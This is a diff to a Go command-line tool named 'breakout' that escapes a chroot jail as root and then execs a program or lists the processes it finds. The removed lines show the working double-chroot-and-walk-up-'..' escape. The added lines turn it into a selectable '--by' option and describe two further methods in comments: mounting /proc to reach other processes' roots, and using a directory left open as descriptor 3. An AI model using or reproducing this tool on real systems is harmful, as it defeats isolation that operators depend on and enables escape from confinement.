@@ -1,12 +1,17 @@
 //go:build linux
 
 // Breakout leaves a directory that chroot(2) made a process's root, and runs a
-// program there, or says what it sees. It needs nothing but to be root.
+// program there, or says what it sees.
 //
-//	breakout [PROGRAM [ARG...]]
+//	breakout [--by WAY] [PROGRAM [ARG...]]
+//
+// The ways, all as root: dotdot makes a second root and walks up; proc mounts a
+// /proc, in which the roots of other processes are; descriptor takes a directory
+// that whoever made the jail left open as descriptor 3.
 package main
 
 import (
+	"flag"
 	"fmt"
 	"log"
 	"os"
@@ -18,15 +23,21 @@ import (
 func main() {
 	log.SetFlags(0)
 	log.SetPrefix("breakout: ")
-	out, err := breakOut()
+	by := flag.String("by", "dotdot", "the `way` out: dotdot, proc or descriptor")
+	flag.Parse()
+	way, ok := ways[*by]
+	if !ok {
+		log.Fatalf("--by %s is none of dotdot, proc, descriptor", *by)
+	}
+	out, err := breakOut(way)
 	if err != nil {
 		log.Fatal(err)
 	}
 	if !out {
 		log.Fatal("I am still inside: .. ends where it ended before")
 	}
-	if len(os.Args) > 1 {
-		log.Fatal(&os.PathError{Op: "exec", Path: os.Args[1], Err: unix.Exec(os.Args[1], os.Args[1:], os.Environ())})
+	if args := flag.Args(); len(args) > 0 {
+		log.Fatal(&os.PathError{Op: "exec", Path: args[0], Err: unix.Exec(args[0], args, os.Environ())})
 	}
 	processes, err := filepath.Glob("/proc/[1-9]*")
 	if err != nil {
@@ -40,26 +51,15 @@ func main() {
 }
 
 // breakOut says whether / is another directory after it than before.
-func breakOut() (bool, error) {
+func breakOut(way func() error) (bool, error) {
 	before, err := os.Stat("/")
 	if err != nil {
 		return false, err
 	}
-	// A process has one root. A second chroot forgets the first, and does not
-	// move the process: it now stands outside of its root.
-	const second = "/second-root"
-	if err := os.Mkdir(second, 0o700); err != nil && !os.IsExist(err) {
+	if err := way(); err != nil {
 		return false, err
 	}
-	if err := unix.Chroot(second); err != nil {
-		return false, &os.PathError{Op: "chroot", Path: second, Err: err}
-	}
-	// ".." stops at the root only for who comes by it. This path does not.
-	for range 256 {
-		if err := unix.Chdir(".."); err != nil {
-			return false, &os.PathError{Op: "chdir", Path: "..", Err: err}
-		}
-	}
+	// It stands outside. This makes where it stands the root.
 	if err := unix.Chroot("."); err != nil {
 		return false, &os.PathError{Op: "chroot", Path: ".", Err: err}
 	}
